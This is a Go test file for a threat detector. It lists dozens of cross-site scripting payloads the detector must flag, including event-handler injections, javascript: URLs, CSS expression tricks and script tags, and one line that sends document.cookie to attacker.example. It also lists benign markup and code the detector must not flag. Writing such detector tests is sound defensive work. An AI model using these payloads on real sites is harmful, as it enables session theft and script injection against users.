package detect

import (
	"context"
	"testing"
)

// Cross-site scripting: attacks written for these tests from the grammar that makes
// markup or script execute (none copied from the corpus), and hard benign text —
// markdown that shows HTML, documentation, source code — that uses the same tags,
// words and punctuation without executing anything.

var xssQualityAttacks = []struct{ where, in string }{
	// elements with event handlers, in the usual spellings
	{"query:q", "<img src=x onerror=alert(document.domain)>"},
	{"query:q", "<svg/onload=confirm(1)>"},
	{"query:q", "<details open ontoggle=print()>"},
	{"query:q", "<img/src/onerror=alert(1)>"},
	{"query:q", "<img\tsrc=x\tonerror=alert(1)>"},
	{"query:q", "<svg onload%09=alert(1)>"},
	{"query:q", "<img src=x oNeRrOr=alert(1)>"},
	{"query:q", "<x contenteditable onblur=alert(1)>lose focus"},
	{"query:q", "<div draggable=true ondragstart=alert(1)>drag</div>"},
	{"query:q", "<svg><discard onbegin=alert(1)>"},
	// attribute and string break-outs
	{"query:q", "\" autofocus onfocus=alert(1) x=\""},
	{"query:q", "' onmouseenter='alert(1)"},
	{"query:q", "'><img src=x onerror=prompt(1)>"},
	{"query:q", "\";alert(1);//"},
	{"query:q", "'-confirm`1`-'"},
	{"query:q", "</title><svg onload=alert(1)>"},
	{"query:q", "\";document.location='https://attacker.example/c?'+document.cookie;//"},
	{"query:q", "';top['al'+'ert'](1);//"},
	// script-capable URLs
	{"query:q", "<a href=\"jav&#x09;ascript:alert(1)\">x</a>"},
	{"query:q", "<a href=\"javascript&colon;alert(1)\">x</a>"},
	{"query:q", "<iframe src=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">"},
	{"query:q", "<button formaction=javascript:alert(1)>go</button>"},
	{"query:q", "<a href=\"vbscript:msgbox(1)\">x</a>"},
	{"query:q", "<a href=\"ja va&#9;script:alert(1)\">x</a>"},
	{"query:q", "<img src=\"[x]jav[y]ascript:alert(1)\">"},
	{"query:q", "<x:timer xmlns:x=\"urn:x\" x:onbegin=\"alert(1)\">"},
	{"query:q", "javascript://%0aalert(1)"},
	// dangerous elements with attributes
	{"query:q", "<object data=\"//attacker.example/x.swf\" type=\"application/x-shockwave-flash\">"},
	{"query:q", "<embed src=//attacker.example/x.svg>"},
	{"query:q", "<base href=\"//attacker.example/\">"},
	{"query:q", "<meta http-equiv=\"refresh\" content=\"0;url=//attacker.example\">"},
	{"query:q", "<layer src=\"//attacker.example/l.html\"></layer>"},
	{"query:q", "<iframe src=//attacker.example/login.html width=100%>"},
	{"query:q", "<embed src=\"https://attacker.example/m.swf\" allowscriptaccess=always>"},
	// CSS
	{"query:q", "<div style=\"width:expression(alert(1))\">"},
	{"query:q", "<p style=x:expression\\28 alert(1)\\29>"},
	{"query:q", "<div style=\"binding: url(//attacker.example/b.xml#x)\">"},
	{"query:q", "<div style=\"background:\\75\\72\\6c(//attacker.example/a.png)\">"},
	{"query:q", "<p style=\"font-family:'x',;a\\3c img\\20 src\\3d x'\">"},
	{"query:q", "<span style=\"color:blue}body{background:red\">x</span>"},
	{"query:q", "<b style=\"[x]color:red\">x</b>"},
	{"query:q", "<style>p{font:serif[x;color:red}</style>"},
	{"query:q", "<i style=\"background:url(/img/;color:red;/*x.png)\">x</i>"},
	// IE-only machinery
	{"query:q", "<?import namespace=\"v\" implementation=\"#default#vml\">"},
	{"query:q", "<span datasrc=#island datafld=body dataformatas=html></span>"},
	{"query:q", "¼script¾alert(1)¼/script¾"},
	{"query:q", "%BCscript%BEalert(1)%BC/script%BE"},
	// script elements
	{"query:q", "<script>alert(document.domain)</script>"},
	{"query:q", "<script src=//attacker.example/x.js></script>"},
	{"query:q", "</script><img src=x onerror=alert(1)>"},
	{"query:q", "<script>x=1;confirm(x)//"},
	{"query:q", "<SCRIPT SRC=//attacker.example/j.js?<P>"},
	// JSX-style braces that still run script in HTML
	{"query:q", "<button onclick={alert(1)}>x</button>"},
	{"query:q", "<x onmouseover={ top.alert(1) }>"},
	// AngularJS directives reaching the window
	{"query:q", "<b ng-mouseover=\"$event.view.prompt(1)\">x</b>"},
	{"query:q", "<div ng-init=\"a=constructor.constructor('confirm(1)')()\">"},
	// JavaScript gadgets and probes
	{"query:q", "window['al'+'ert'](1)"},
	{"query:q", "self['eval']('1+1')"},
	{"query:q", "document['cookie']"},
	{"query:q", "[2].find(confirm)"},
	{"query:q", "Array.prototype.map.call`${alert}1`"},
	{"query:q", "top.alert(1)"},
	{"query:q", "window?.alert(1)"},
	{"query:q", "(alert)(1)"},
	{"query:q", "alert?.(1)"},
	{"query:q", "x=confirm;x(1)"},
	{"query:q", "<script>onerror=alert;throw 1</script>"},
	{"query:q", "a{b:`function(){confirm(1)}()`}"},
	{"query:q", "{{constructor.constructor('alert(1)')()}}"},
}

// xssQualityBenign must not be a threat at all.
var xssQualityBenign = []struct{ where, in string }{
	// markdown that shows harmless HTML
	{"body:text", "Use `<a href=\"/docs\">the docs</a>` to link to the page."},
	{"body:text", "Add the logo with `<img src=\"logo.png\" alt=\"Logo\">` in your README."},
	{"query:q", "<img src=\"logo.png\" alt=\"Logo\" width=\"200\">"},
	{"query:q", "<a class=\"btn\" href=\"/signup\">Sign up</a>"},
	{"query:q", "<form action=\"/search\" method=\"get\"><input name=\"q\"></form>"},
	{"query:q", "<math><mi>x</mi><mo>=</mo><mn>2</mn></math>"},
	// prose about script
	{"query:q", "The onload event fires when the page finishes loading."},
	{"query:q", "Use alert() sparingly; users hate modal dialogs."},
	{"query:q", "Reply: \"Thanks!\"; alert me when it ships."},
	{"query:q", "the value of every expression ([ast.Expr]) that has a type"},
	{"query:q", "The format is expression(args) where args is a list."},
	{"query:q", "- bpo-34303: Performance of :func:`functools.reduce` is slightly improved."},
	{"query:q", "Use `arr.filter` and `arr.map` instead of loops."},
	{"query:q", "The ¼ inch screw and the ¾ inch bolt; see the script on page 3/4."},
	// JavaScript and Python source
	{"query:q", "button.addEventListener('click', function(e) { e.preventDefault(); })"},
	{"query:q", "window.addEventListener('DOMContentLoaded', function () { refreshData(); });"},
	{"query:q", "repl.start({ prompt: 'Enter a number: ', eval: myEval });"},
	{"query:q", "$('#x').on('click', function () { alert('hi'); });"},
	{"query:q", "import { sep } from 'node:path'; console.log(sep);"},
	{"query:q", "echo \"done\"; print('ok')"},
	{"query:q", "if devices: self['Devices'] = parse_devices(devices)"},
	{"query:q", "content['items'][0]['name']"},
	{"query:q", "parent['children'].append(node)"},
	{"query:q", "top['x'] = 1"},
	{"query:q", "window['myApp'] = new App();"},
	{"query:q", "price = items['total'] * 1.2"},
	{"query:q", "awk '{print $1}' file.txt"},
	{"query:q", "x = prompt; y = confirm"},
	{"query:q", "I have <div class=\"container\"><span id=\"msg\"></span></div> and in JS I do alert(\"hi\") but nothing shows."},
	{"query:q", "Why does window.location.href = \"/home\" not redirect? My HTML: <form id=\"f\"><input type=\"text\"></form>"},
	{"query:q", "https://example.com/callback?onsuccess=window.close&state=abc"},
	{"query:q", "<button ng-click=\"save()\">Save</button>"},
	{"query:q", "Call `rl.commit()` to see the effect. Some `semver-minor` features may be held back."},
	{"body:text", "\"\"\"Time a call.\"\"\"\nonce = kwargs.get('once')\none = R(1)"},
	{"body:text", "```js\nimport 'data:text/javascript,console.log(\"hello!\")';\n```"},
	{"query:q", "Fixed url.parse() with the `'javascript:'` protocol."},
	{"query:q", "Close the element with </script> at the end of the block."},
	{"query:q", "<button @click=\"count++\">Add</button>"},
	{"query:q", "<button on:click={increment}>Count</button>"},
	{"query:q", "mode=prompt; retries=3"},
}

// xssRuleBenign are benign snippets that libinjection's HTML tokenizer reports as
// XSS (any <iframe>, <meta http-equiv>, <base>, <link> or style attribute): the
// engine flags them, so here only the regex patterns are held to silence.
var xssRuleBenign = []struct{ where, in string }{
	{"query:q", "The <iframe> element embeds another page."},
	{"query:q", "<meta http-equiv=\"Content-Type\" content=\"text/html; charset=utf-8\">"},
	{"query:q", "<base href=\"/\">"},
	{"query:q", "const onError = (err) => { console.error(err) }"},
	{"query:q", "<p style=\"font-family:'\\201c'\">quote</p>"},
	{"query:q", "The <script> tag is used to embed JavaScript."},
	{"query:q", "Run `npm run-script <script> -- <arguments>` to pass arguments."},
	{"query:q", "All `<script>` tags run together within the same context."},
	{"query:q", "<button onClick={handleClick}>Click me</button>"},
	{"query:q", "<button onClick={() => setCount(count + 1)}>+</button>"},
	{"query:q", "<input onChange={(e) => setName(e.target.value)} value={name} />"},
	{"query:q", "<i style=\"content:'\\f101'\"></i>"},
	{"query:q", "<link rel=\"stylesheet\" href=\"/css/site.css\">"},
	{"query:q", "<iframe width=\"560\" height=\"315\" src=\"https://www.youtube.com/embed/abc123\" allowfullscreen></iframe>"},
	{"query:q", "<object data=\"report.pdf\" type=\"application/pdf\" width=\"100%\" height=\"600\"></object>"},
	{"query:q", "<embed src=\"report.pdf\" type=\"application/pdf\">"},
	{"body:text", "return \"<progress style='width:{}' max='{}' value='{}'></progress>\".format(w, t, p)"},
	{"body:text", "style = ''\nif ndef['color']:\n    style += 'color: #%s; ' % ndef['color']"},
	{"query:q", "<td style=\"text-align:center\">x</td>"},
	{"query:q", "<div style=\"{{ css }}\">x</div>"},
	{"query:q", "<div style=\"width: ${w}px\">x</div>"},
	{"query:q", "<div style={{color: \"red\"}}>x</div>"},
	{"query:q", "<style>input[type=text]{border:1px solid}</style>"},
	{"query:q", "<div style=\"background:url(data:image/png;base64,iVBORw0KGgo=)\">"},
	{"query:q", "<span style=\"font-family:'Segoe UI', Arial\">x</span>"},
}

func TestXSSQualityAttacks(t *testing.T) {
	wantThreats(t, newTestDetector(t), xssQualityAttacks)
}

func TestXSSQualityBenign(t *testing.T) {
	wantClean(t, newTestDetector(t), xssQualityBenign)
}

func TestXSSRuleBenign(t *testing.T) {
	d := newTestDetector(t)
	for _, c := range xssRuleBenign {
		r := d.Detect(context.Background(), c.in, c.where)
		for _, th := range r.Threats {
			if th.Category == "xss" && th.Type == "regex" && th.Score >= 0.7 {
				t.Errorf("xss pattern %s fired on %s %q (%q)", th.Pattern, c.where, c.in, th.Match)
			}
		}
	}
}
